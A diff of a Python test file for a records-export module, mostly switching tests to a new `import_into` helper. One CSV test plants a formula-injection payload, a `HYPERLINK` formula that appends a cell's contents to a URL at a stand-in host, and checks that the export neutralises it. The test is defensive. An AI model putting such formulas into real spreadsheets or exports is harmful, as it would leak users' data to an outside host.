@@ -27,6 +27,7 @@ from readiness.store.database import open_database
 from readiness.store.export_queries import DateRange, count_assessments, iter_documents
 from tests.core.reports.helpers import inputs, instruments
 from tests.core.reports.samples import BASE_TIME, filled_document
+from tests.factories import builtin_interpretation, import_into
 
 
 def fill(path: Path, count: int = 6) -> Database:
@@ -38,7 +39,7 @@ def fill(path: Path, count: int = 6) -> Database:
             locale="es" if index % 2 else "en",
             created=BASE_TIME + timedelta(days=index),
         )
-        repository.import_document(db, document)
+        import_into(db, document)
     return db
 
 
@@ -106,7 +107,7 @@ def test_csv_neutralises_cells_a_spreadsheet_would_run(db: Database, tmp_path: P
         {"name": Measurement('=HYPERLINK("http://x.example/?"&A1,"click")')},
     )
     results = tuple(r for r in document.check_results if r.check_id != "device.os")
-    repository.import_document(db, replace(document, check_results=(*results, hostile)))
+    import_into(db, replace(document, check_results=(*results, hostile)))
     rows = read_csv(run_export(db, "csv", tmp_path / "out.csv", inputs(), staff="MJ").path)
     cell = next(r for r in rows if r["service_user_code"] == "INJ-1")["os_name"]
     assert cell == "'" + '=HYPERLINK("http://x.example/?"&A1,"click")'
@@ -136,7 +137,8 @@ def test_json_export_round_trips_through_import(db: Database, tmp_path: Path) ->
     assert isinstance(data, list) and len(data) == 6
     assert "Llamar a la hermana de la señora Núñez" in result.path.read_text(encoding="utf-8")
     other = open_database(tmp_path / "other.db")
-    assert len(import_documents(other, read_documents(result.path))) == 6
+    forms = builtin_interpretation().instruments
+    assert len(import_documents(other, read_documents(result.path), instruments=forms)) == 6
     for original in iter_documents(db):
         copied = repository.load_document(other, original.assessment.id)
         assert to_dict(copied)["answers"] == to_dict(original)["answers"]
@@ -228,7 +230,7 @@ def test_summary_file_is_de_identified_and_suppressed(db: Database, tmp_path: Pa
         document = filled_document(
             index + 1, code=f"EX{index:02d}", created=BASE_TIME + timedelta(days=index)
         )
-        repository.import_document(db, document)
+        import_into(db, document)
     result = run_export(
         db,
         "summary",
